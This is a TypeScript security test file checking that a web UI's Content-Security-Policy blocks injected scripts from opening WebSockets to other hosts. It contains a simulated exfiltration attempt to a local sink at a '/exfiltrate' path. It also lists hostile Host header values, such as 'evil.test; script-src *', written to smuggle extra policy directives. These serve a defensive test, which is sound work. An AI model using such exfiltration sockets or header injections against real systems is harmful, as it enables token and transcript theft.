/**
 * The Control UI's CSP lets the page open a WebSocket to its own gateway and nowhere else:
 * a script that got into the page (an injected one, a compromised dependency) cannot carry
 * the token or the transcript to a socket of its own. The attack runs in real Chromium; the
 * attacker's socket server must never see a connection. A hostile Host header cannot add
 * sources or directives to the policy.
 */
import { request } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { WebSocketServer } from "ws";
import { connectWithToken, openPage, useUiFixture } from "../ui/harness.js";

const ui = useUiFixture();

let sink: WebSocketServer;
let sinkPort: number;
const sinkConnections: string[] = [];

beforeAll(async () => {
  sink = new WebSocketServer({ host: "127.0.0.1", port: 0 });
  sink.on("connection", (_ws, req) => sinkConnections.push(req.url ?? ""));
  await new Promise<void>((resolve) => sink.once("listening", resolve));
  sinkPort = (sink.address() as AddressInfo).port;
});
afterAll(() => new Promise<void>((resolve) => sink.close(() => resolve())));

/** The CSP the UI route answers for a request carrying this Host header. */
function cspFor(url: string, host: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const req = request(url, { headers: { host, accept: "text/html" } }, (res) => {
      res.resume();
      resolve(String(res.headers["content-security-policy"] ?? ""));
    });
    req.on("error", reject);
    req.end();
  });
}

describe("Control UI CSP: sockets", () => {
  it("a script in the connected page cannot open a WebSocket to another host; the page's own socket works", async () => {
    const { browser, gateway } = await ui();
    const { context, page } = await openPage(browser, gateway.url);
    try {
      await connectWithToken(page);
      await page.waitForSelector("#chat-input"); // the page's own socket is up
      // A page script, as an injected one would run it (a string: the tests' tsconfig has no DOM lib).
      const outcome = (await page.evaluate(`(async () => {
        const violations = [];
        document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
        const opened = await new Promise((resolve) => {
          try {
            const ws = new WebSocket("ws://127.0.0.1:${sinkPort}/exfiltrate");
            ws.onopen = () => resolve("open");
            ws.onerror = () => resolve("error");
          } catch (err) {
            resolve("threw " + err.name);
          }
        });
        // The violation event is queued as a task: let it arrive.
        await new Promise((r) => setTimeout(r, 0));
        return { opened, violations };
      })()`)) as { opened: string; violations: string[] };
      expect(outcome.opened).not.toBe("open");
      expect(outcome.violations).toContain("connect-src");
      expect(sinkConnections).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it("names the serving host's sockets, no bare ws:/wss:, and a hostile Host header adds nothing", async () => {
    const { gateway } = await ui();
    const host = new URL(gateway.url).host;
    const csp = await cspFor(gateway.url, host);
    const connect = csp.split("; ").find((d) => d.startsWith("connect-src")) ?? "";
    expect(connect.split(" ")).toEqual(["connect-src", "'self'", `ws://${host}`, `wss://${host}`]);

    for (const hostile of ["evil.test; script-src *", "evil.test *", "a b", "x/y", "evil.test,*"]) {
      const policy = await cspFor(gateway.url, hostile);
      expect(policy, hostile).toContain("connect-src 'self'; ");
      expect(policy, hostile).not.toContain("evil");
      expect(policy.match(/script-src/g), hostile).toHaveLength(1);
    }
  });
});
